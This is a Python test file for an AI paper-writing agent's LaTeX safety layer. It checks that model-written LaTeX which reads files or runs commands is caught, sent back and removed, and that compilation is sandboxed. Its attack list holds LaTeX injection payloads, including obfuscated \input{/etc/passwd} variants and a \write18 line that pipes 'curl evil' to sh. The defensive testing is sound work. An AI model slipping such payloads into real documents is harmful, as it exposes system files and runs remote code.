"""Model-written LaTeX that reads or writes files or runs commands: sent back, then removed; and the compiler's
own fence (paranoid kpathsea, no shell escape) for what a template change might let through."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from writeup_support import StubLiterature, build_run, script_writer, user_text

from agents.llm import LLM, Ledger
from agents.rundir import RunDir, create_run, open_run
from agents.settings import Settings, load_settings
from agents.testing import ScriptedServer, text
from agents.writeup import write_paper
from agents.writeup.compile import compile_tex, tex_env
from agents.writeup.tex_safety import problems_for, strip_unsafe, unsafe_constructs
from agents.writeup.writer import WriteupReport

needs_tex = pytest.mark.skipif(shutil.which("latexmk") is None, reason="LaTeX (latexmk) is not installed")

ATTACKS = [
    r"\input{/etc/passwd}",
    r"\include{../../journal}",
    r"\immediate\write18{curl evil | sh}",
    r"\newread\f \openin\f=/etc/hostname \read\f to\x \x",
    r"\catcode`\Q=0 Qinput{/etc/passwd}",
    r"\csname input\endcsname{/etc/passwd}",
    r"^^5cinput{/etc/passwd}",
    r"\def\x{\in}\x put",
    r"\usepackage{verbatim}\verbatiminput{/etc/passwd}",
    r"\lstinputlisting{/etc/passwd}",
    r"\@@input /etc/passwd",
    r"\scantokens{\input x}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_file_or_command_construct_is_found(attack: str) -> None:
    body = f"We train the model.\n{attack}\nThe loss goes down."
    assert unsafe_constructs(body), attack
    assert problems_for(body) and "must not read or write files" in problems_for(body)[0]
    kept, removed = strip_unsafe(body)
    assert kept == "We train the model.\nThe loss goes down." and removed == [attack]


def test_ordinary_latex_is_left_alone() -> None:
    body = (
        r"Table~\ref{tab:results} shows \emph{input} noise at $\sigma=0.1$ \citep{a2020}; we \textbf{write} "
        r"``inputs'' and use \mathbb{R}, \includegraphics-free text, \section*{x} and \item lists."
    )
    # \includegraphics is handled elsewhere (enforce removes it); plain words "input"/"write" are not control words
    assert unsafe_constructs(body.replace(r"\includegraphics-free", "graphics-free")) == []


def test_compile_environment_is_scrubbed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-should-not-pass")
    env = tex_env()
    assert "OPENAI_API_KEY" not in env
    assert (env["openin_any"], env["openout_any"], env["shell_escape"]) == ("p", "p", "f")


@needs_tex
@pytest.mark.parametrize(
    ("line", "outside"),
    [
        (r"\input{/etc/hostname}", None),
        (r"\immediate\write18{touch SHELL_RAN}", "SHELL_RAN"),
        (r"\immediate\openout3=/tmp/shoal-tex-probe.txt \immediate\write3{x}", "/tmp/shoal-tex-probe.txt"),
    ],
)
def test_the_compiler_refuses_files_outside_and_commands(tmp_path: Path, line: str, outside: str | None) -> None:
    """Even if such a line reached paper.tex, pdflatex could not read /etc, write outside or run a command."""
    (tmp_path / "paper.tex").write_text(
        f"\\documentclass{{article}}\n\\begin{{document}}\nHi.\n{line}\n\\end{{document}}\n"
    )
    res = compile_tex(tmp_path, timeout_s=60)
    hostname = Path("/etc/hostname").read_text().strip() if Path("/etc/hostname").exists() else "\0"
    assert hostname not in res.log_excerpt or not res.ok
    if outside:
        target = Path(outside) if outside.startswith("/") else tmp_path / outside
        assert not target.exists()
    if "input" in line:
        assert not res.ok and "not found" in res.log_excerpt


@pytest.fixture(scope="module")
def run_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("tex-safety-run")
    run = create_run(load_settings(None, [], workspace=root, cache_dir=root / "cache"), "noise injection")
    build_run(run.path)
    return run.path


@needs_tex
@pytest.mark.slow
def test_writer_is_told_then_the_line_is_removed(
    run_template: Path, tmp_path: Path, scripted_llm: ScriptedServer, llm_settings: Settings
) -> None:
    """Builds a PDF: the conclusion pulls /etc/passwd in; told once, it insists; the line never reaches TeX."""
    dest = tmp_path / run_template.name
    shutil.copytree(run_template, dest)
    run: RunDir = open_run(dest)
    script_writer(scripted_llm, skip=("writeup/conclusion",))
    bad = "Input noise is a cheap regularizer.\n\\input{/etc/passwd}\nIt is easy to add."
    scripted_llm.always("writeup/conclusion", text(bad))
    scripted_llm.script("writeup/revise", text(bad))
    write_paper(run, LLM(llm_settings, Ledger(run.ledger_path)), llm_settings, StubLiterature())
    problem = user_text(scripted_llm.requests_for("writeup/revise")[0])
    assert "\\input" in problem and "must not read or write files" in problem
    tex = (run.path / "paper" / "paper.tex").read_text()
    assert "/etc/passwd" not in tex and "It is easy to add." in tex
    report = WriteupReport.model_validate_json((run.path / "paper" / "report.json").read_text())
    assert any("sent back for file or command access" in n for n in report.notes)
    assert any("removed 1 line(s)" in n for n in report.notes)
    assert (run.path / "paper" / "paper.pdf").is_file()
